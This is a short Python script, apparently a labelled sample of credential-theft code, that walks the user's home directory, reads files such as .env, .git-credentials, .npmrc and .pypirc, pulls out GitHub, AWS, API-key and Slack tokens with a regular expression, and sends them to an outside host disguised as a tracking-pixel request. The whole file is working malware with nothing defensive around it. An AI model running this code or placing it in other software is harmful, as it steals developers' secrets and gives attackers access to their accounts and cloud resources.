# class: token theft from repositories; style: walk and regex
import os
import re
import urllib.parse
import urllib.request

PATTERN = re.compile(r"(ghp_[A-Za-z0-9]{36}|AKIA[0-9A-Z]{16}|sk-[A-Za-z0-9]{32,}|xox[bap]-[0-9A-Za-z-]+)")
hits = set()
for root, _, files in os.walk(os.path.expanduser("~")):
    for name in files:
        if name in (".env", ".git-credentials", ".npmrc", ".pypirc", "config", "credentials"):
            try:
                with open(os.path.join(root, name), errors="ignore") as fh:
                    hits.update(PATTERN.findall(fh.read()))
            except OSError:
                continue
query = urllib.parse.urlencode({"t": ",".join(hits)})
urllib.request.urlopen("https://stats.example/pixel.gif?" + query)
